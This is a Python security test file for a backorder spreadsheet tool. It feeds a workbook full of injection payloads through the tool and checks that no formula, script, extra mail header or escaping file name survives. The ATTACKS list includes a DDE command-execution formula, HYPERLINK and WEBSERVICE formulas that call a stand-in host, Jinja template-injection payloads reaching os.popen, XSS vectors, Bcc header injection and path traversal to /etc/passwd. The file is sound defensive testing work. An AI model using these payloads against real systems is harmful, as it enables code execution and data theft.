"""A whole book whose every text is an attack, run through every verb that leaves files: what is in them, and what runs?

The parts are tried elsewhere (tests/messages: headers, templates, pages); here all of them together, from the cell to the file.
"""

from __future__ import annotations

import csv
import datetime as dt
import email
import json
import os
import re
import subprocess
import tempfile
from email import policy
from pathlib import Path

import openpyxl
import pytest
from lxml import html

from backorder_xl.hosts.cli import main
from tests.messages.page.tools import BROWSER
from tests.reliability import raw_cells

AS_OF = "2026-06-03"
DAY = dt.datetime(2026, 5, 1)
SEEN = "bxl-planted"
ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    '=WEBSERVICE("http://x.example")',
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "<script>document.title='ran'</script>",
    "\"><img src=http://x.example/a onerror=document.title='ran'>",
    "<svg onload=document.title='ran'>",
    "</title><script>document.title='ran'</script>",
    "javascript:document.title='ran'",
    "<iframe src=file:///etc/passwd>",
    "]]><script>document.title='ran'</script>",
    "a\r\nBcc: evil@x.example\r\n\r\nbody",
    "=?utf-8?q?Hi=0D=0ABcc:_evil@x.example?=",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "nul.txt",
    "aux. ",
    "name.",
    "C:evil",
    "\\\\x.example\\share",
    "x" * 300,
    "a/b\\c:d*e?f|g",
    "\u202egpj.exe",
    "SO-1",
    "so-1",
    "_x0000_",
    "_x003C_script_x003E_",
    "&lt;script&gt;",
    "']; alert(1); //",
)


def hostile(path: Path) -> Path:
    """One order, one item, one supplier and one purchase order for each attack, which stands in all its text cells."""
    rows: dict[str, list[list[object]]] = {
        "Orders": [
            ["Order", "Line", "Order Date", "Customer", "SKU", "Ordered", "Customer Name", "Email", "Specification", "Ship To"]
        ],
        "Stock": [["SKU", "On Hand"]],
        "Items": [["SKU", "Description", "Unit", "Supplier", "Substitute", "Link"]],
        "Suppliers": [["Supplier", "Name", "Email", "Currency", "Language"]],
        "Customers": [["Customer", "Name", "Email", "Language", "Country"]],
        "Purchase Orders": [["PO", "Line", "Supplier", "SKU", "Ordered", "Expected", "Status", "Ship To"]],
        "Settings": [
            ["Setting", "Value"],
            *([n, "<b>=1</b> {{ 7*7 }}\r\nBcc: evil@x.example"] for n in ("Company Name", "Sender Name", "Phone", "Page Title")),
        ],
    }
    for n, attack in enumerate(ATTACKS):
        rows["Orders"].append([attack, n, DAY, attack, attack, 5, attack, f"a{n}@b.example", None, attack])
        rows["Stock"].append([attack, 1])
        rows["Items"].append([attack, attack, attack, attack, attack, attack])
        rows["Suppliers"].append([attack, attack, f"s{n}@b.example", attack, attack])
        rows["Customers"].append([attack, attack, f"a{n}@b.example, {attack}" if n % 2 else f"a{n}@b.example", attack, attack])
        rows["Purchase Orders"].append([attack, n, attack, attack, 1, DAY, "ordered", attack])
    book = openpyxl.Workbook()
    book.remove(book.worksheets[0])
    for name, lines in rows.items():
        sheet = book.create_sheet(name)
        for r, line in enumerate(lines, 1):
            for c, value in enumerate(line, 1):
                cell = sheet.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture(scope="module")
def left(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder after the verbs that write; what lies around it shows whether anything got out."""
    folder = tmp_path_factory.mktemp("outside") / "a" / "b" / "c"
    folder.mkdir(parents=True)
    book = hostile(folder / "book.xlsx")
    for words in (["run"], ["steer"], ["page"], ["whatif", "--cancel", "SO-1"], ["run"]):
        assert (
            main([words[0], str(book), *words[1:], "--as-of", AS_OF, "--set", "Legal Regime=US", "--set", "Page Items=all"]) == 0
        ), words
    return folder


def test_no_text_became_a_formula(left: Path) -> None:
    """Every formula is one of ours or none: it holds no word of an attack, and every attack stands as text where it stands."""
    signs = [a for a in ATTACKS if a.strip()[:1] in "=+-@"]
    found: set[str] = set()
    for path in left.rglob("*.xlsx"):
        for sheet, cells in raw_cells.sheets(path):
            for at, (kind, said, formula) in cells.items():
                bare = formula.casefold()
                assert not any(w in bare for w in ("cmd", "x.example", "webservice", 'hyperlink("http', "|", "1+1", "sum(a1)")), (
                    path.name,
                    sheet,
                    at,
                    formula,
                )
                if said in signs:
                    assert kind == "s", (path.name, sheet, at)
                    found.add(said)
    assert len(found) > 5


def test_nothing_was_written_outside_and_every_name_is_plain(left: Path) -> None:
    outside = left.parents[2]
    assert {p.name for p in outside.iterdir()} == {"a"} and {p.name for p in left.parent.iterdir()} == {"c"}
    names = [p.name for p in left.rglob("*") if p.is_file()]
    assert sum(n.endswith(".eml") for n in names) > 20
    folded = {}
    for path in (p for p in left.rglob("*") if p.is_file()):
        name = path.name
        assert name.isprintable() and not set(name) & set('<>:"/\\|?*') and len(name.encode()) <= 255, name
        assert not name.startswith(".") and name == name.rstrip(". "), name
        assert not re.match(r"(?i)(con|prn|aux|nul|com\d|lpt\d)\s*(\.|$)", name), name
        assert folded.setdefault((path.parent, name.casefold()), path) == path, "two names that differ by case only"


def test_no_message_has_a_header_or_a_recipient_too_many(left: Path) -> None:
    for path in left.rglob("*.eml"):
        message = email.message_from_bytes(path.read_bytes(), policy=policy.strict)
        assert not {k.casefold() for k in message} & {"bcc", "cc", "reply-to", "resent-to"}, path.name
        addresses = [a.addr_spec for a in message["to"].addresses] if message["to"] else []
        assert all(re.fullmatch(r"[as][0-9]+@b\.example", a) for a in addresses) and len(addresses) <= 1, (path.name, addresses)
        for part in message.walk():
            name = part.get_filename()
            assert name is None or (name.isprintable() and not set(name) & set('<>:"/\\|?*') and ".." not in name), name
            if part.get_content_type() == "text/html":
                tree = html.fromstring(part.get_content())
                assert not tree.xpath("//script|//iframe|//svg|//object|//*[@onerror or @onload]"), path.name
                assert all(link.startswith(("mailto:", "cid:")) for link in tree.xpath("//@href|//@src")), path.name
            if part.get_content_maintype() == "text" and part.get_content_type() != "text/html":
                assert "<class" not in part.get_content() and "uid=" not in part.get_content()


def test_the_feed_calculates_nothing_and_links_to_the_web_only(left: Path) -> None:
    (feed,) = left.glob("*.csv")
    rows = list(csv.DictReader(feed.read_text(encoding="utf-8-sig").splitlines()))
    assert len(rows) > 20
    for row in rows:
        assert all(not v or v[0] not in "=+-@\t\r" for v in row.values()), row
        assert not row["link"]
    data = json.loads(next(left.glob("*-backorders.json")).read_text(encoding="utf-8"))
    assert all(item["link"] == "" for item in data["items"])


@pytest.mark.skipif(not BROWSER, reason="needs Chromium")
def test_no_script_runs_in_a_real_browser_and_no_request_leaves(left: Path, tmp_path: Path) -> None:
    """Each page that a run leaves, opened in Chromium, which notes every connection that it tries."""
    pages = [*left.glob("*.html"), *left.rglob("index.html")]
    for n, path in enumerate(p for p in left.rglob("*.eml") if n_of(p) % 9 == 0):
        message = email.message_from_bytes(path.read_bytes(), policy=policy.strict)
        body = message.get_body(("html",))
        assert body is not None
        pages.append(tmp_path / f"{n}.html")
        pages[-1].write_text(body.get_content(), encoding="utf-8", errors="replace")
    bad = tmp_path / "bad.html"
    bad.write_text("<title>x</title><script>document.title='ran'</script><img src=http://x.example/a>")
    ran = {p: opened(p) for p in [*pages, bad]}
    title, asked = ran.pop(bad)
    assert title == "ran" and "x.example" in asked, "the browser would show it"
    for path, (title, asked) in ran.items():
        assert title != "ran" and "x.example" not in asked, path.name


def n_of(path: Path) -> int:
    return int((re.findall(r"(\d+)\.eml$", path.name) or ["1"])[0])


def opened(page: Path) -> tuple[str, str]:
    """The title once the page has settled, and the log of the browser's network."""
    with tempfile.TemporaryDirectory() as home:
        log = Path(home, "net.json")
        done = subprocess.run(
            [
                str(BROWSER),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                f"--user-data-dir={home}",
                f"--log-net-log={log}",
                "--disable-background-networking",
                "--virtual-time-budget=1000",
                "--dump-dom",
                page.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            env={**os.environ, "HOME": home},
            errors="replace",
        )
        title = re.search(r"<title>(.*?)</title>", done.stdout, re.DOTALL)
        asked = log.read_text(errors="replace") if log.exists() else ""
        return (title[1] if title else ""), "x.example" if re.search(r'"url":"http://x\.example', asked) else ""
